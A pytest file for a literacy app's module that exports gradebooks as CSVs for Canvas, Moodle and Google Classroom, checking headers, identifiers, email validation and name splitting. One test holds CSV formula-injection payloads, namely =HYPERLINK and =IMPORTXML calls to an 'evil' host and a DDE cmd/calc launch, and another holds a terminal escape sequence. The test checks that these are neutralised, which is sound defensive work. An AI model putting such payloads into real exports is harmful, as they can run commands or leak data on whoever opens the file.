"""The gradebook shaped for Canvas, Moodle and Google Classroom (reports/lms.py).

Headers must be exactly the templates docs/formats.md promises (read from the document
itself, so the two cannot drift apart); cells from students' files must never run as a
formula; a student the LMS cannot match gets an empty cell and a warning, never a guess.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from literacy_app.core.classstats import GradebookRow
from literacy_app.reports.lms import LMS_NAMES, is_email, lms_csv, lms_header, split_name

DOCS = Path(__file__).resolve().parents[2] / "docs" / "formats.md"
TITLE = "Reading an op-ed: the battle of Bakhmut"


def _row(name: str, student_id: str, score: float = 87.25, file: str = "a.json") -> GradebookRow:
    return GradebookRow(
        student=name,
        student_id=student_id,
        file=file,
        score=score,
        found=3,
        mislabeled=1,
        imprecise=0,
        missed=2,
        not_in_key=0,
        extra=0,
        penalty=0.0,
        precision=None,
        recall=0.5,
        f1=0.5,
        attempts=1,
        bonus=0.0,
        bonus_possible=1.0,
    )


def _parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _documented_templates() -> dict[str, str]:
    """The header line of each LMS's template in docs/formats.md's LMS section."""
    doc = DOCS.read_text(encoding="utf-8")
    section = doc[doc.index("### Gradebook CSV for your LMS") :]
    section = section[: section.index("\n### ", 10)]
    blocks = re.findall(r"\*\*(Canvas|Moodle|Google Classroom)\*\*.*?```\n(.*?)```", section, re.S)
    names = {"Canvas": "canvas", "Moodle": "moodle", "Google Classroom": "google"}
    return {names[title]: block for title, block in blocks}


def test_headers_are_exactly_the_documented_templates() -> None:
    templates = _documented_templates()
    assert set(templates) == set(LMS_NAMES)
    for lms in LMS_NAMES:
        header = ",".join(lms_header(lms, "<lesson title>"))
        assert templates[lms].splitlines()[0] == header
    assert templates["canvas"].splitlines()[1] == "Points Possible,,,,,100"


@pytest.mark.parametrize(
    ("lms", "header"),
    [
        ("canvas", ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", TITLE]),
        ("moodle", ["Full name", "ID number", "Email address", TITLE]),
        ("google", ["Email address", "First name", "Last name", TITLE]),
    ],
)
def test_header_row_as_written(lms: str, header: list[str]) -> None:
    text, _ = lms_csv(lms, TITLE, [_row("Ada Lovelace", "ada@school.org")])
    assert _parse(text)[0] == header
    assert text.endswith("\r\n")
    assert "\r\n" in text
    assert not text.startswith("\ufeff")
    assert lms_csv(lms, TITLE, [], bom=True)[0].startswith("\ufeff")


def test_canvas_rows_put_the_id_in_sis_user_id_and_leave_the_rest_empty() -> None:
    text, warnings = lms_csv(
        "canvas", TITLE, [_row("Ada Lovelace", "S-001"), _row("Bo", "bo@x.org", 100)]
    )
    rows = _parse(text)
    assert rows[1] == ["Points Possible", "", "", "", "", "100"]
    assert rows[2] == ["Ada Lovelace", "", "S-001", "", "", "87.2"]
    assert rows[3] == ["Bo", "", "bo@x.org", "", "", "100.0"]
    assert warnings == []


def test_moodle_rows_fill_id_number_always_and_email_only_with_an_email() -> None:
    text, warnings = lms_csv(
        "moodle", TITLE, [_row("Ada", "1234"), _row("Bo", "bo@school.org", 55.55)]
    )
    rows = _parse(text)
    assert rows[1] == ["Ada", "1234", "", "87.2"]
    assert rows[2] == ["Bo", "bo@school.org", "bo@school.org", "55.5"]
    assert len(rows) == 3
    assert warnings == []


def test_google_rows_need_an_email_and_split_names() -> None:
    text, warnings = lms_csv(
        "google",
        TITLE,
        [
            _row("Mary Ann Lee", "mal@school.org"),
            _row("Lovelace, Ada", "ada@school.org"),
            _row("Cher", "cher@school.org"),
        ],
    )
    rows = _parse(text)
    assert rows[1] == ["mal@school.org", "Mary Ann", "Lee", "87.2"]
    assert rows[2] == ["ada@school.org", "Ada", "Lovelace", "87.2"]
    assert rows[3] == ["cher@school.org", "Cher", "", "87.2"]
    assert warnings == []


@pytest.mark.parametrize("lms", LMS_NAMES)
def test_a_student_without_id_gets_an_empty_cell_and_a_warning(lms: str) -> None:
    text, warnings = lms_csv(
        lms, TITLE, [_row("Ada", "ada@school.org"), _row("Nobody Known", "  ", file="x.json")]
    )
    rows = _parse(text)
    row = rows[-1]
    identifier = {"canvas": 2, "moodle": 1, "google": 0}[lms]
    assert row[identifier] == ""
    assert "Nobody" in " ".join(row)  # the name is still there for the teacher
    assert len(warnings) == 1
    problem = warnings[0]
    assert problem.file == "x.json"
    assert problem.severity == "warning"
    assert "Nobody Known" in problem.message
    assert "left empty" in problem.message
    assert str(problem).startswith("x.json:1:1: warning: ")


def test_google_warns_about_an_id_that_is_not_an_email() -> None:
    text, warnings = lms_csv("google", TITLE, [_row("Ada", "s001", file="ada.json")])
    assert _parse(text)[1][0] == ""
    assert len(warnings) == 1
    assert "'s001' is not an email address" in warnings[0].message
    assert "Google Classroom" in warnings[0].message


@pytest.mark.parametrize("lms", LMS_NAMES)
def test_cells_from_files_never_run_as_formulas(lms: str) -> None:
    hostile = [
        _row('=HYPERLINK("http://evil","x")', "@SUM(A1)"),
        _row("+cmd|' /C calc'!A0", "-2+3"),
        _row("\tTab", "=1+1@x.org"),
    ]
    text, _ = lms_csv(lms, '=IMPORTXML("http://evil")', hostile)
    for row in _parse(text):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (lms, cell)
    assert _parse(text)[0][-1] == '\'=IMPORTXML("http://evil")'
    assert "'=HYPERLINK" in text


def test_a_control_character_in_a_name_is_shown_not_written() -> None:
    text, _ = lms_csv("canvas", TITLE, [_row("Eve\x1b[2J\x00", "e1")])
    assert "\x1b" not in text
    assert "\x00" not in text
    assert "Eve\\x1b[2J\\x00" in text


def test_unknown_lms_is_refused() -> None:
    with pytest.raises(ValueError, match="unknown LMS"):
        lms_header("blackboard", TITLE)


@pytest.mark.parametrize(
    ("value", "email"),
    [
        ("ada@school.org", True),
        (" ada@school.org ", True),
        ("ada@localhost", False),
        ("ada school@x.org", False),
        ("@x.org", False),
        ("s001", False),
        ("", False),
        ("a@b@c.org", False),
    ],
)
def test_what_counts_as_an_email(value: str, email: bool) -> None:
    assert is_email(value) is email


@pytest.mark.parametrize(
    ("name", "parts"),
    [
        ("Ada Lovelace", ("Ada", "Lovelace")),
        ("  Ada   King  Lovelace ", ("Ada King", "Lovelace")),
        ("Lovelace,Ada", ("Ada", "Lovelace")),
        ("Plato", ("Plato", "")),
        ("", ("", "")),
    ],
)
def test_split_name(name: str, parts: tuple[str, str]) -> None:
    assert split_name(name) == parts
